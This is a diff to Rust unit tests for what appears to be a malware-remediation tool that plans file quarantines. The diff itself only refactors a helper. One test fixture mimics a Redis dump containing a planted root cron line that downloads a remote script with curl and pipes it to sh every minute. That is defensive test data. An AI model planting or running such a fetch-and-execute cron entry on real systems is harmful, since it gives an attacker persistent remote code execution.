@@ -777,6 +777,17 @@ mod tests {
         }
     }
 
+    /// The paths the plan quarantines, in plan order.
+    fn quarantined(plan: &Plan) -> Vec<&[u8]> {
+        plan.items
+            .iter()
+            .filter_map(|i| match &i.action {
+                Action::QuarantineFile { file, .. } => Some(file.path.as_bytes()),
+                _ => None,
+            })
+            .collect()
+    }
+
     const RDB_CRONTAB: &[u8] =
         b"REDIS0009\xfa\x09redis-ver\x056.0.16\xfe\x00\n\n*/1 * * * * curl -fsSL http://127.66.3.1/cr.sh | sh\n\n\xff";
 
@@ -813,14 +824,7 @@ mod tests {
             )),
         ];
         let plan = build(&model, &doc(findings));
-        let quarantined: Vec<&[u8]> = plan
-            .items
-            .iter()
-            .filter_map(|i| match &i.action {
-                Action::QuarantineFile { file, .. } => Some(file.path.as_bytes()),
-                _ => None,
-            })
-            .collect();
+        let quarantined = quarantined(&plan);
         assert_eq!(quarantined, vec![&b"/var/spool/cron/crontabs/root"[..]]);
         let edited: Vec<(&[u8], Vec<u32>)> = plan
             .items
@@ -904,14 +908,7 @@ mod tests {
             sha256: None,
         });
         let plan = build(&model, &doc(vec![f]));
-        let q: Vec<&[u8]> = plan
-            .items
-            .iter()
-            .filter_map(|i| match &i.action {
-                Action::QuarantineFile { file, .. } => Some(file.path.as_bytes()),
-                _ => None,
-            })
-            .collect();
+        let q = quarantined(&plan);
         assert_eq!(q, vec![&b"/usr/lib/libgcwrap.so"[..]], "{:?}", plan.items);
     }
 
